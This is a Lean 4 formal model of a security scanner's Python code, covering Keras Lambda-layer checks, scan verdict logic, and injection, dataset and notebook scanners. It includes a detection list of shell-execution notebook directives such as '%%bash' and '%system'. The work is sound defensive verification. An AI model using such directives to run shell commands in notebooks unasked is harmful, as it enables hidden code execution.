import Mathlib

/- Verification of the Veritensor/Aegis model-scanner repository against its
   natural-language specification.

   The Python sources are shallowly embedded: strings become `List Char`,
   parsed JSON documents become the `Json` inductive below, Python
   exceptions become `Except`/`Option` results, and library calls whose
   code is outside the repository (the regex engine behind `is_match`, the
   registry client, `zipfile`/`h5py`, `ast.parse`, SHA-256 hashing) are
   abstracted as explicit oracle parameters or record fields describing
   what the call returns. -/

namespace Veritensor

/-- Python's `needle in haystack` on strings: contiguous substring test. -/
def strContains (needle hay : List Char) : Bool :=
  needle.isPrefixOf hay ||
    (match hay with
     | [] => false
     | _ :: t => strContains needle t)

/-- Modelled from the spec: a compiled signature regex of the signature
    store (`rules.py` is not among the repository's files).  `pstr` is the
    regex text, as interpolated into threat messages; `pmatch` is the
    oracle telling which texts the regex matches. -/
structure Pattern where
  pstr : List Char
  pmatch : List Char → Bool

/-- Modelled from the spec: `is_match(text, patterns)` of the signature
    store is true iff some pattern of the list matches the text. -/
def is_match (text : List Char) (pats : List Pattern) : Bool :=
  pats.any (fun p => p.pmatch text)

/-- Parsed JSON value as `json.load`/`json.loads` produces it.  Numbers are
    modelled as integers; no claim depends on floats. -/
inductive Json where
  | jnull
  | jbool (b : Bool)
  | jnum (n : Int)
  | jstr (s : List Char)
  | jarr (elems : List Json)
  | jobj (fields : List (List Char × Json))

/-- Python `dict.get(key)` on a parsed JSON object's field list (objects
    produced by `json.load` have distinct keys, so first match suffices). -/
def jlookup (fields : List (List Char × Json)) (key : List Char) : Option Json :=
  (fields.find? (fun kv => kv.fst == key)).map (·.snd)

/-! ## Keras engine (`src/scanner/src/aegis/engines/static/keras_engine.py`) -/

/-- Threat string emitted for a Lambda layer in `_analyze_model_config`. -/
def criticalLambdaMsg : List Char :=
  "CRITICAL: Keras Lambda layer detected (RCE Risk)".toList

/-- Threat string emitted when h5py is unavailable in `scan_keras_file`. -/
def warnH5Msg : List Char :=
  "WARNING: h5py missing, cannot scan legacy .h5 file".toList

/-- Embedding of the `for layer in layers` loop of `_analyze_model_config`,
    with the recursion on nested model configs passed as `rec`: one Lambda
    CRITICAL per Lambda layer, recursion into nested configs of `Model`,
    `Functional` and `Sequential` layers, exception (`.error`) when a layer
    is not a dict; a raised exception discards the threats accumulated so
    far, exactly as the callers' `except` blocks do. -/
def _analyze_layers (rec : Json → Except Unit (List (List Char))) :
    List Json → Except Unit (List (List Char))
  | [] => Except.ok []
  | layer :: rest =>
    match layer with
    | Json.jobj lk =>
      let cn := jlookup lk "class_name".toList
      let isLam : Bool :=
        match cn with
        | some (Json.jstr s) => s == "Lambda".toList
        | _ => false
      let isNested : Bool :=
        match cn with
        | some (Json.jstr s) =>
          s == "Model".toList || s == "Functional".toList || s == "Sequential".toList
        | _ => false
      let lamThreats : List (List Char) :=
        if isLam then [criticalLambdaMsg] else []
      let nestedRes : Except Unit (List (List Char)) :=
        if isNested then rec ((jlookup lk "config".toList).getD (Json.jobj []))
        else Except.ok []
      match nestedRes with
      | Except.error e => Except.error e
      | Except.ok ns =>
        match _analyze_layers rec rest with
        | Except.error e => Except.error e
        | Except.ok rs => Except.ok (lamThreats ++ ns ++ rs)
    | _ => Except.error ()

/-- Fuel-indexed embedding of `_analyze_model_config`.  The fuel models
    Python's bounded recursion: a model nested deeper than the
    interpreter's recursion limit raises `RecursionError`, which the
    callers' `except` blocks catch like any other exception (`.error`). -/
def _analyze_model_config_fuel : Nat → Json → Except Unit (List (List Char))
  | 0, _ => Except.error ()
  | fuel+1, j =>
    match j with
    | Json.jobj kvs =>
      match (jlookup kvs "config".toList).getD (Json.jobj kvs) with
      | Json.jobj mkvs =>
        match (jlookup mkvs "layers".toList).getD (Json.jarr []) with
        | Json.jarr ls =>
          _analyze_layers (fun nested => _analyze_model_config_fuel fuel nested) ls
        | _ => Except.ok []
      | _ => Except.error ()
    | _ => Except.error ()

/-- CPython's default recursion limit, bounding nested-model recursion. -/
def recursionLimit : Nat := 1000

/-- Embedding of `_analyze_model_config` as the engine invokes it. -/
def _analyze_model_config (j : Json) : Except Unit (List (List Char)) :=
  _analyze_model_config_fuel recursionLimit j

/-- The HDF5 magic signature `89 48 44 46 0D 0A 1A 0A` as byte values. -/
def hdf5Signature : List Nat := [137, 72, 68, 70, 13, 10, 26, 10]

/-- Abstraction of a Keras model artifact on disk, as the engine's probes
    and the `zipfile`/`h5py` library calls (outside the repository) observe
    it.  Each field records what one such call returns on this file. -/
structure KerasFileM where
  headBytes : List Nat
  probeReadOk : Bool
  isZip : Bool
  zipOpenOk : Bool
  zipHasConfig : Bool
  zipConfigJson : Except Unit Json
  h5OpenOk : Bool
  h5ModelConfig : Option (Except Unit Json)

/-- Embedding of `_is_hdf5`: read the first eight bytes and compare them to
    the HDF5 signature; any exception yields `false`. -/
def _is_hdf5 (f : KerasFileM) : Bool :=
  f.probeReadOk && (f.headBytes == hdf5Signature)

/-- Embedding of `_scan_keras_zip`: open the archive, read the member
    `config.json` when present, analyze it; any exception is caught and the
    threats extended so far (none, since `extend` is atomic here) are
    returned. -/
def _scan_keras_zip (f : KerasFileM) : List (List Char) :=
  if f.zipOpenOk then
    if f.zipHasConfig then
      match f.zipConfigJson with
      | Except.ok cfg =>
        match _analyze_model_config cfg with
        | Except.ok ts => ts
        | Except.error _ => []
      | Except.error _ => []
    else []
  else []

/-- Embedding of `_scan_keras_h5`: open with h5py, read the `model_config`
    root attribute when present, parse and analyze it; any exception is
    caught and the empty threat list returned. -/
def _scan_keras_h5 (f : KerasFileM) : List (List Char) :=
  if f.h5OpenOk then
    match f.h5ModelConfig with
    | some (Except.ok cfg) =>
      match _analyze_model_config cfg with
      | Except.ok ts => ts
      | Except.error _ => []
    | some (Except.error _) => []
    | none => []
  else []

/-- Embedding of `scan_keras_file`: zip probe first, HDF5 magic-byte probe
    second, empty threat list otherwise.  `h5pyAvailable` is the module-level
    `H5PY_AVAILABLE` flag. -/
def scan_keras_file (h5pyAvailable : Bool) (f : KerasFileM) : List (List Char) :=
  if f.isZip then _scan_keras_zip f
  else if _is_hdf5 f then
    (if h5pyAvailable then _scan_keras_h5 f else [warnH5Msg])
  else []

/-- Dispatch order as claim C4 states it, written from the spec's words for
    comparison with `scan_keras_file`: the HDF5 signature probe takes
    precedence, and only otherwise is the zip archive branch taken. -/
def scan_keras_file_claimOrder (h5pyAvailable : Bool) (f : KerasFileM) : List (List Char) :=
  if _is_hdf5 f then
    (if h5pyAvailable then _scan_keras_h5 f else [warnH5Msg])
  else if f.isZip then _scan_keras_zip f
  else []

/-! ## Scan pipeline verdict logic (`src/scanner/src/aegis/cli/main.py`) -/

/-- Outcome of `hf_client.verify_file_hash(repo, name, hash)` for one file
    (the registry client is not among the repository's files), with
    `raised e` for the call raising, which the surrounding `try` block
    catches as a hashing error. -/
inductive VerifyOutcome where
  | verified
  | mismatch
  | unknown
  | otherResp
  | raised (e : List Char)

/-- Extension class of a file as `main.py` dispatches it: the pickle and
    keras extension sets are disjoint, and every other suffix gets no
    static engine. -/
inductive ExtClass where
  | pickleExt
  | kerasExt
  | otherExt

/-- Everything the per-file loop of `scan` observes about one file: its
    extension class, what `calculate_sha256` returns (the hashing engine is
    not among the repository's files), what the registry client returns,
    what reading and `scan_pickle_stream` return (the pickle engine is not
    among the repository's files), and the keras probe results. -/
structure FileJob where
  ext : ExtClass
  hashOutcome : Except (List Char) (List Char)
  verifyOutcome : VerifyOutcome
  pickleOutcome : Except (List Char) (List (List Char))
  kfile : KerasFileM

/-- Modelled from the spec: the per-file `ScanResult` record of
    `core/types.py` (not among the repository's files); `add_threat`
    appends to `threats`, and `identity_verified` starts false. -/
structure ScanResultM where
  fileHash : Option (List Char)
  identityVerified : Bool
  threats : List (List Char)

/-- Threat string `f"Hashing Error: {e}"` of `main.py`. -/
def hashingErrorMsg (e : List Char) : List Char := "Hashing Error: ".toList ++ e

/-- Threat string for a registry hash mismatch in `main.py`. -/
def criticalMismatchMsg (repo : List Char) : List Char :=
  "CRITICAL: Hash mismatch! File differs from official '".toList ++ repo ++ "'".toList

/-- Threat string for a file unknown to the registry in `main.py`. -/
def warnNotInRepoMsg (repo : List Char) : List Char :=
  "WARNING: File not found in remote repo '".toList ++ repo ++ "'".toList

/-- Threat string `f"Scan Error: {e}"` of `main.py`. -/
def scanErrorMsg (e : List Char) : List Char := "Scan Error: ".toList ++ e

/-- Embedding of section A (identity: hashing and verification) of the
    per-file loop of `scan`.  `repo` is the `--repo` option; verification
    runs only when it is given. -/
def identityStep (repo : Option (List Char)) (job : FileJob) : ScanResultM :=
  match job.hashOutcome with
  | Except.error e =>
    { fileHash := none, identityVerified := false, threats := [hashingErrorMsg e] }
  | Except.ok h =>
    match repo with
    | none => { fileHash := some h, identityVerified := false, threats := [] }
    | some r =>
      match job.verifyOutcome with
      | VerifyOutcome.verified =>
        { fileHash := some h, identityVerified := true, threats := [] }
      | VerifyOutcome.mismatch =>
        { fileHash := some h, identityVerified := false,
          threats := [criticalMismatchMsg r] }
      | VerifyOutcome.unknown =>
        { fileHash := some h, identityVerified := false,
          threats := [warnNotInRepoMsg r] }
      | VerifyOutcome.otherResp =>
        { fileHash := some h, identityVerified := false, threats := [] }
      | VerifyOutcome.raised e =>
        { fileHash := some h, identityVerified := false,
          threats := [hashingErrorMsg e] }

/-- Embedding of section B (static analysis) of the per-file loop:
    extension dispatch to the pickle engine, whose exceptions become a
    single `Scan Error` threat, or to the keras engine, called without a
    `try`. -/
def staticStep (h5pyAvailable : Bool) (job : FileJob) : List (List Char) :=
  match job.ext with
  | ExtClass.pickleExt =>
    (match job.pickleOutcome with
     | Except.ok ts => ts
     | Except.error e => [scanErrorMsg e])
  | ExtClass.kerasExt => scan_keras_file h5pyAvailable job.kfile
  | ExtClass.otherExt => []

/-- Embedding of sections A-C of the per-file loop: the completed
    `ScanResult` and this file's contribution to `has_critical_errors`.
    The engine threat list being non-empty sets the flag regardless of
    severity; `"CRITICAL" in str(scan_res.threats)` is a substring test on
    the printed list, and since the separators Python inserts cannot
    contain the token it holds iff some threat message contains it. -/
def processFile (repo : Option (List Char)) (h5pyAvailable : Bool) (job : FileJob) :
    ScanResultM × Bool :=
  let base := identityStep repo job
  let st := staticStep h5pyAvailable job
  let res : ScanResultM := { base with threats := base.threats ++ st }
  let hc1 : Bool := !st.isEmpty
  let hc2 : Bool :=
    !res.identityVerified && repo.isSome &&
      res.threats.any (fun t => strContains "CRITICAL".toList t)
  (res, hc1 || hc2)

/-- Embedding of the scan loop of `scan`: the ScanResults in input order
    and the final `has_critical_errors` flag. -/
def runScan (repo : Option (List Char)) (h5pyAvailable : Bool) (jobs : List FileJob) :
    List ScanResultM × Bool :=
  jobs.foldl
    (fun acc job =>
      let pr := processFile repo h5pyAvailable job
      (acc.1 ++ [pr.1], acc.2 || pr.2))
    ([], false)

/-- Embedding of the decision step of `scan`: with force-mode disabled the
    command exits 1 (blocking) iff `has_critical_errors`; in force-mode
    the verdict is `forced_approval` with exit 0. -/
def scanBlocks (repo : Option (List Char)) (h5pyAvailable : Bool)
    (force : Bool) (jobs : List FileJob) : Bool :=
  (runScan repo h5pyAvailable jobs).2 && !force

/-- Threat severity levels of the spec's data model. -/
inductive Sev where
  | warning
  | low
  | medium
  | high
  | critical
deriving DecidableEq

/-- Rank for the severity order WARNING < LOW < MEDIUM < HIGH < CRITICAL. -/
def sevRank : Sev → Nat
  | Sev.warning => 0
  | Sev.low => 1
  | Sev.medium => 2
  | Sev.high => 3
  | Sev.critical => 4

/-- Severity of a threat message read from its leading tag, written from
    the spec's message conventions (the code itself never parses
    severities out of messages, which is what claim C1 is about). -/
def severityTagOf (msg : List Char) : Option Sev :=
  if "CRITICAL".toList.isPrefixOf msg then some Sev.critical
  else if "HIGH".toList.isPrefixOf msg then some Sev.high
  else if "MEDIUM".toList.isPrefixOf msg then some Sev.medium
  else if "LOW".toList.isPrefixOf msg then some Sev.low
  else if "WARNING".toList.isPrefixOf msg then some Sev.warning
  else none

/-- Whether this job's identity state is MISMATCH: the registry was
    consulted (repo given, hashing succeeded) and reported a differing
    digest. -/
def identityMismatch (repo : Option (List Char)) (job : FileJob) : Bool :=
  repo.isSome &&
    (match job.hashOutcome, job.verifyOutcome with
     | Except.ok _, VerifyOutcome.mismatch => true
     | _, _ => false)

/-- Claim C1's verdict, written from the claim's words: with force-mode
    disabled, block iff some file's result contains a threat whose
    severity meets or exceeds `failOn`, or the file's identity state is
    MISMATCH. -/
def claimC1Blocking (failOn : Sev) (repo : Option (List Char))
    (h5pyAvailable : Bool) (jobs : List FileJob) : Bool :=
  jobs.any (fun job =>
    (processFile repo h5pyAvailable job).1.threats.any (fun t =>
      match severityTagOf t with
      | some s => sevRank failOn ≤ sevRank s
      | none => false) ||
    identityMismatch repo job)

/-! ## Document / RAG engine (`src/src/veritensor/engines/content/injection.py`) -/

/-- Threats the document scanner emits: a HIGH prompt-injection hit
    carrying the matched pattern text, threats of the PII scanner
    (`pii.py` is not among the repository's files, so they are opaque
    tags), and the WARNING produced by the catch-all handler. -/
inductive DocThreat where
  | injHigh (pat : List Char)
  | pii (tag : Nat)
  | warnErr (e : List Char)
deriving DecidableEq

/-- Core of the chunk loop of `scan_document`: `some ts` models an early
    `return threats`, `none` the loop running off the end of the
    generator.  `is_match(chunk, signatures)` followed by the
    first-matching-pattern loop is exactly `find?`; a hit appends one HIGH
    and returns.  Otherwise the chunk goes to `PIIScanner.scan` (oracle
    `piiScan`) and any hit also returns. -/
def scanDocChunks (signatures : List Pattern) (piiScan : List Char → List Nat) :
    List (List Char) → Option (List DocThreat)
  | [] => none
  | chunk :: rest =>
    match signatures.find? (fun p => p.pmatch chunk) with
    | some p => some [DocThreat.injHigh p.pstr]
    | none =>
      match piiScan chunk with
      | [] => scanDocChunks signatures piiScan rest
      | ps => some (ps.map DocThreat.pii)

/-- Embedding of `scan_document` on an extracted chunk stream.  `chunks`
    is what the text generator yields; `genFail` records an exception the
    generator raises after those yields (`none` = clean exhaustion); the
    catch-all `except` turns it into a single WARNING threat appended to
    the threats accumulated so far, which in this loop are none because
    every append is immediately followed by `return`. -/
def scan_document (signatures : List Pattern) (piiScan : List Char → List Nat)
    (chunks : List (List Char)) (genFail : Option (List Char)) : List DocThreat :=
  match scanDocChunks signatures piiScan chunks with
  | some ts => ts
  | none =>
    match genFail with
    | some e => [DocThreat.warnErr e]
    | none => []

/-- Claim C3's version of the chunk loop, written from the spec's words
    for comparison with `scanDocChunks`: identical except that each chunk
    is truncated to 4096 characters before the injection match. -/
def scanDocChunksTrunc (signatures : List Pattern) (piiScan : List Char → List Nat) :
    List (List Char) → Option (List DocThreat)
  | [] => none
  | chunk :: rest =>
    match signatures.find? (fun p => p.pmatch (chunk.take 4096)) with
    | some p => some [DocThreat.injHigh p.pstr]
    | none =>
      match piiScan chunk with
      | [] => scanDocChunksTrunc signatures piiScan rest
      | ps => some (ps.map DocThreat.pii)

/-- Claim C3's version of `scan_document`, built on the truncating loop. -/
def scan_document_trunc (signatures : List Pattern) (piiScan : List Char → List Nat)
    (chunks : List (List Char)) (genFail : Option (List Char)) : List DocThreat :=
  match scanDocChunksTrunc signatures piiScan chunks with
  | some ts => ts
  | none =>
    match genFail with
    | some e => [DocThreat.warnErr e]
    | none => []

/-- The 1 MiB window of `_read_text_sliding` (text mode, so characters). -/
def CHUNK_SIZE : Nat := 1024 * 1024

/-- The 4 KiB overlap of `_read_text_sliding`. -/
def OVERLAP_SIZE : Nat := 4096

/-- The reads `f.read(CHUNK_SIZE)` performs on a text file with contents
    `s`: maximal windows of `CHUNK_SIZE` characters until exhaustion. -/
def readChunks : List Char → List (List Char)
  | s =>
    if h : s = [] then []
    else s.take CHUNK_SIZE :: readChunks (s.drop CHUNK_SIZE)
termination_by s => s.length
decreasing_by
  simp_wf
  exact ⟨List.length_pos.mpr h, by decide⟩

/-- Python `chunk[-OVERLAP_SIZE:]`: the last `OVERLAP_SIZE` characters of
    a read (the whole read when it is shorter). -/
def lastOverlap (chunk : List Char) : List Char :=
  chunk.drop (chunk.length - OVERLAP_SIZE)

/-- The yields of `_read_text_sliding` given the list of reads, carrying
    the `buffer` variable: each yield is the previous read's overlap tail
    followed by the current read. -/
def slidingAux (buffer : List Char) : List (List Char) → List (List Char)
  | [] => []
  | r :: rs => (buffer ++ r) :: slidingAux (lastOverlap r) rs

/-- Embedding of `_read_text_sliding` on a text file with contents `s`. -/
def _read_text_sliding (s : List Char) : List (List Char) :=
  slidingAux [] (readChunks s)

/-! ## Dataset engine (`src/src/veritensor/engines/data/dataset_engine.py`) -/

/-- Threats the dataset scanner emits: a HIGH data-poisoning hit carrying
    the matched injection pattern, a MEDIUM suspicious-string hit carrying
    the pattern and Python's label choice (`"http" in pat` selects the
    Malicious URL label), and the WARNING of the catch-all handler. -/
inductive DsThreat where
  | injHigh (pat : List Char)
  | susMed (isUrl : Bool) (pat : List Char)
  | warnErr (e : List Char)
deriving DecidableEq

/-- Embedding of `_stream_csv` given the parsed rows of the file: yield
    every cell of a row, count the row, and stop once `count >= limit`
    for a truthy limit (Python's `if limit and count >= limit: break`). -/
def _stream_csv (limit : Option Nat) : Nat → List (List (List Char)) → List (List Char)
  | _, [] => []
  | count, row :: rest =>
    row ++
      (match limit with
       | some l =>
         if l ≠ 0 ∧ count + 1 ≥ l then [] else _stream_csv limit (count + 1) rest
       | none => _stream_csv limit (count + 1) rest)

/-- The loop of `scan_dataset` over the yielded cell stream, carrying
    `row_count` and the accumulated threats.  Cells shorter than 5
    characters are skipped; a kept cell is truncated to 4096 characters;
    an injection match appends the first matching pattern as HIGH and
    returns; suspicious matches append one MEDIUM per matching pattern;
    a truthy `row_limit` breaks the loop once `row_count` reaches it.
    The Bool is true when the loop exited early (`return` or `break`),
    so the generator was not consumed further. -/
def scanCells (inj susp : List Pattern) (rowLimit : Option Nat) :
    Nat → List DsThreat → List (List Char) → Bool × List DsThreat
  | _, acc, [] => (false, acc)
  | count, acc, cell :: rest =>
    if cell.length < 5 then scanCells inj susp rowLimit count acc rest
    else
      let t := cell.take 4096
      match inj.find? (fun p => p.pmatch t) with
      | some p => (true, acc ++ [DsThreat.injHigh p.pstr])
      | none =>
        let acc2 := acc ++ (susp.filter (fun p => p.pmatch t)).map
          (fun p => DsThreat.susMed (strContains "http".toList p.pstr) p.pstr)
        match rowLimit with
        | some l =>
          if l ≠ 0 ∧ count + 1 ≥ l then (true, acc2)
          else scanCells inj susp rowLimit (count + 1) acc2 rest
        | none => scanCells inj susp rowLimit (count + 1) acc2 rest

/-- The row limit `None if full_scan else MAX_ROWS_DEFAULT` of
    `scan_dataset`, with `MAX_ROWS_DEFAULT = 10_000`. -/
def rowLimitOf (fullScan : Bool) : Option Nat :=
  if fullScan then none else some 10000

/-- Embedding of `scan_dataset` on a CSV file with parsed rows `rows`.
    `streamFail` records an exception the generator raises after all its
    yields; the catch-all `except` appends one WARNING to the threats
    accumulated so far.  It can only fire when the loop did not exit
    early, since an early exit abandons the generator. -/
def scan_dataset_csv (inj susp : List Pattern) (rows : List (List (List Char)))
    (fullScan : Bool) (streamFail : Option (List Char)) : List DsThreat :=
  let rl := rowLimitOf fullScan
  match scanCells inj susp rl 0 [] (_stream_csv rl 0 rows) with
  | (true, ts) => ts
  | (false, acc) =>
    match streamFail with
    | some e => acc ++ [DsThreat.warnErr e]
    | none => acc

/-! ## Notebook engine (`src/src/veritensor/engines/static/notebook_engine.py`) -/

/-- Helper for Python `repr` of the elements of a parsed JSON list with a
    given element renderer: `none` propagates a rendering failure. -/
def reprElems (rec : Json → Option (List Char)) : List Json → Option (List (List Char))
  | [] => some []
  | x :: xs =>
    match rec x, reprElems rec xs with
    | some r, some rs => some (r :: rs)
    | _, _ => none

/-- Helper for Python `repr` of the fields of a parsed JSON dict. -/
def reprFields (rec : Json → Option (List Char)) :
    List (List Char × Json) → Option (List (List Char))
  | [] => some []
  | (k, v) :: rest =>
    match rec v, reprFields rec rest with
    | some rv, some rs =>
      some ((['\''] ++ k ++ ['\''] ++ ": ".toList ++ rv) :: rs)
    | _, _ => none

/-- Python `repr` of a parsed JSON value, fuel-bounded like the
    interpreter's recursion (escaping of quotes inside strings is not
    modelled; no claim scans such a rendering). -/
def pythonReprFuel : Nat → Json → Option (List Char)
  | 0, _ => none
  | fuel+1, j =>
    match j with
    | Json.jnull => some "None".toList
    | Json.jbool true => some "True".toList
    | Json.jbool false => some "False".toList
    | Json.jnum n => some (toString n).toList
    | Json.jstr s => some (['\''] ++ s ++ ['\''])
    | Json.jarr elems =>
      match reprElems (fun x => pythonReprFuel fuel x) elems with
      | some rs => some ("[".toList ++ List.intercalate ", ".toList rs ++ "]".toList)
      | none => none
    | Json.jobj kvs =>
      match reprFields (fun x => pythonReprFuel fuel x) kvs with
      | some rs =>
        some ("\x7b".toList ++ List.intercalate ", ".toList rs ++ "\x7d".toList)
      | none => none

/-- Python `str` of a parsed JSON value: strings render as themselves,
    everything else as its `repr`; `none` models `RecursionError`. -/
def pythonStr (j : Json) : Option (List Char) :=
  match j with
  | Json.jstr s => some s
  | _ => pythonReprFuel recursionLimit j

/-- Python `"".join(content) if isinstance(content, list) else str(content)`:
    joining raises `TypeError` (`none`) on a non-string element. -/
def joinStrList : List Json → Option (List Char)
  | [] => some []
  | Json.jstr s :: rest =>
    (match joinStrList rest with
     | some r => some (s ++ r)
     | none => none)
  | _ :: _ => none

/-- Normalization used for cell sources and output payloads alike: join a
    list of strings, or `str()` of anything else. -/
def joinOrStr (content : Json) : Option (List Char) :=
  match content with
  | Json.jarr elems => joinStrList elems
  | other => pythonStr other

/-- Python `str.splitlines()` restricted to the terminators `\r\n`, `\r`
    and `\n` (the exotic terminators do not appear in any claim). -/
def pylinesAux (cur : List Char) : List Char → List (List Char)
  | [] => if cur.isEmpty then [] else [cur.reverse]
  | '\r' :: '\n' :: rest => cur.reverse :: pylinesAux [] rest
  | '\r' :: rest => cur.reverse :: pylinesAux [] rest
  | '\n' :: rest => cur.reverse :: pylinesAux [] rest
  | c :: rest => pylinesAux (c :: cur) rest

/-- Python `str.splitlines()`. -/
def pylines (s : List Char) : List (List Char) :=
  pylinesAux [] s

/-- ASCII whitespace as Python `str.strip()` removes it. -/
def isPySpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Python `str.strip()`. -/
def pystrip (s : List Char) : List Char :=
  ((s.dropWhile isPySpace).reverse.dropWhile isPySpace).reverse

/-- The `DANGEROUS_MAGICS` list of shell/subshell directives. -/
def DANGEROUS_MAGICS : List (List Char) :=
  ["!".toList, "%%bash".toList, "%%sh".toList, "%%script".toList,
   "%%perl".toList, "%%ruby".toList, "%system".toList]

/-- Embedding of `_clean_magics`: comment out lines whose stripped form
    starts with `!` or `%`, preserving line count. -/
def _clean_magics (source : List Char) : List Char :=
  List.intercalate "\n".toList
    ((pylines source).map (fun line =>
      let st := pystrip line
      if "!".toList.isPrefixOf st || "%".toList.isPrefixOf st
      then "# ".toList ++ line
      else line))

/-- The nodes `ast.walk` visits, in walk order, as far as
    `_scan_ast_nodes` distinguishes them: imports, from-imports, calls of
    a qualified name `obj.meth`, calls of a plain name, anything else. -/
inductive PyNode where
  | pimport (names : List (List Char))
  | pfromImport (module : Option (List Char))
  | pcallAttr (objName meth : List Char)
  | pcallName (fn : List Char)
  | pother

/-- Threats the notebook scanner emits. -/
inductive NbThreat where
  | magic (cell : Nat) (snippet : List Char)
  | unsafeImport (cell : Nat) (name : List Char)
  | callAttr (sev : List Char) (cell : Nat) (objName meth : List Char)
  | callName (sev : List Char) (cell : Nat) (fn : List Char)
  | secretSrc (cell : Nat) (pat : List Char)
  | secretOut (cell : Nat) (pat : List Char)
  | invalidJson
  | scanErr
deriving DecidableEq

/-- Embedding of `_scan_ast_nodes` over the walked nodes.  `getSev` is the
    oracle for `get_severity` of the signature store (`rules.py` is not
    among the repository's files): `None` or a severity string, with
    Python truthiness making the empty string a non-match for calls, while
    imports compare against `"CRITICAL"` exactly. -/
def _scan_ast_nodes (getSev : List Char → List Char → Option (List Char))
    (cellIndex : Nat) (nodes : List PyNode) : List NbThreat :=
  nodes.flatMap (fun node =>
    match node with
    | PyNode.pimport names =>
      names.filterMap (fun n =>
        if getSev n "*".toList = some "CRITICAL".toList
        then some (NbThreat.unsafeImport cellIndex n)
        else none)
    | PyNode.pfromImport (some m) =>
      if getSev m "*".toList = some "CRITICAL".toList
      then [NbThreat.unsafeImport cellIndex m]
      else []
    | PyNode.pfromImport none => []
    | PyNode.pcallAttr o m =>
      (match getSev o m with
       | some sev => if sev.isEmpty then [] else [NbThreat.callAttr sev cellIndex o m]
       | none => [])
    | PyNode.pcallName f =>
      (match getSev "builtins".toList f with
       | some sev => if sev.isEmpty then [] else [NbThreat.callName sev cellIndex f]
       | none => [])
    | PyNode.pother => [])

/-- The directive scan (block A) of a code cell: for each source line
    whose stripped form starts with a dangerous magic, one HIGH threat per
    matching magic, carrying the first 50 characters of the stripped line
    and the 1-based cell index `i + 1`. -/
def magicScan (i : Nat) (sourceText : List Char) : List NbThreat :=
  (pylines sourceText).flatMap (fun line =>
    let st := pystrip line
    (DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st)).map
      (fun _ => NbThreat.magic (i + 1) (st.take 50)))

/-- The syntax-tree scan (block B) of a code cell: clean the magics, skip
    blank sources, parse with the `ast.parse` oracle `astO` (`none` models
    both `SyntaxError` and any other exception, which the inner handlers
    swallow), then walk. -/
def astStep (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (i : Nat)
    (sourceText : List Char) : List NbThreat :=
  let clean := _clean_magics sourceText
  if (pystrip clean).isEmpty then []
  else
    match astO clean with
    | some nodes => _scan_ast_nodes getSev (i + 1) nodes
    | none => []

/-- Text extraction and secret matching for one entry of `cell["outputs"]`
    (block 3): `none` models an exception escaping to the catch-all
    handler; Python `in` is key lookup on dicts, membership on lists and
    substring search on strings, and raises on anything else. -/
def outputEntryScan (susp : List Pattern) (i : Nat) (output : Json) :
    Option (List NbThreat) :=
  match output with
  | Json.jobj kvs =>
    let textContentE : Option (List Char) :=
      match jlookup kvs "text".toList with
      | some content => joinOrStr content
      | none =>
        match jlookup kvs "data".toList with
        | some d =>
          (match d with
           | Json.jobj dk =>
             (match jlookup dk "text/plain".toList with
              | some content => joinOrStr content
              | none => some [])
           | Json.jarr dl =>
             if dl.any (fun x =>
                 match x with
                 | Json.jstr s => s == "text/plain".toList
                 | _ => false)
             then none else some []
           | Json.jstr ds =>
             if strContains "text/plain".toList ds then none else some []
           | _ => none)
        | none => some []
    match textContentE with
    | none => none
    | some tc =>
      if tc.isEmpty then some []
      else some ((susp.filter (fun p => p.pmatch tc)).map
        (fun p => NbThreat.secretOut (i + 1) p.pstr))
  | Json.jstr s =>
    if strContains "text".toList s then none
    else if strContains "data".toList s then none
    else some []
  | Json.jarr l =>
    if l.any (fun x =>
        match x with
        | Json.jstr s => s == "text".toList
        | _ => false) then none
    else if l.any (fun x =>
        match x with
        | Json.jstr s => s == "data".toList
        | _ => false) then none
    else some []
  | _ => none

/-- The loop over the entries of `cell["outputs"]`: the Bool is false when
    an entry raised, keeping the threats of the earlier entries. -/
def outputsScan (susp : List Pattern) (i : Nat) : List Json → Bool × List NbThreat
  | [] => (true, [])
  | o :: rest =>
    match outputEntryScan susp i o with
    | none => (false, [])
    | some ts =>
      (match outputsScan susp i rest with
       | (ok, ts2) => (ok, ts ++ ts2))

/-- Iterating `cell["outputs"]` itself: lists iterate their entries,
    strings iterate one-character strings (which never contain `"text"`
    or `"data"`, so they are skipped), dicts iterate their keys, anything
    else raises `TypeError`. -/
def outputsBlock (susp : List Pattern) (i : Nat) (outs : Json) : Bool × List NbThreat :=
  match outs with
  | Json.jarr os => outputsScan susp i os
  | Json.jstr _ => (true, [])
  | Json.jobj kvs =>
    (!kvs.any (fun kv =>
        strContains "text".toList kv.fst || strContains "data".toList kv.fst), [])
  | _ => (false, [])

/-- Embedding of the body of the `for i, cell in enumerate(...)` loop for
    one cell: the Bool is false when an exception was raised inside this
    cell (a non-dict cell, a non-string source element, a malformed
    output), keeping the threats appended before the raise. -/
def nbCellScan (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern)
    (i : Nat) (cell : Json) : Bool × List NbThreat :=
  match cell with
  | Json.jobj ck =>
    let ctype := (jlookup ck "cell_type".toList).getD (Json.jstr [])
    let isCode : Bool :=
      match ctype with
      | Json.jstr s => s == "code".toList
      | _ => false
    match joinOrStr ((jlookup ck "source".toList).getD (Json.jarr [])) with
    | none => (false, [])
    | some src =>
      let codeTs : List NbThreat :=
        if isCode then magicScan i src ++ astStep getSev astO i src else []
      let secretTs : List NbThreat :=
        (susp.filter (fun p => p.pmatch src)).map
          (fun p => NbThreat.secretSrc (i + 1) p.pstr)
      let base := codeTs ++ secretTs
      if isCode then
        match jlookup ck "outputs".toList with
        | some outs =>
          (match outputsBlock susp i outs with
           | (ok, ots) => (ok, base ++ ots))
        | none => (true, base)
      else (true, base)
  | _ => (false, [])

/-- The loop over the cells, carrying the cell index and the accumulated
    threat list: an exception aborts the loop with the threats so far. -/
def nbCellsGo (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern) :
    Nat → List NbThreat → List Json → Except (List NbThreat) (List NbThreat)
  | _, acc, [] => Except.ok acc
  | i, acc, c :: rest =>
    match nbCellScan getSev astO susp i c with
    | (true, ts) => nbCellsGo getSev astO susp (i + 1) (acc ++ ts) rest
    | (false, ts) => Except.error (acc ++ ts)

/-- Embedding of the body of `scan_notebook` on the parsed notebook JSON:
    `"cells" not in nb_data` is key lookup on a dict, membership on a
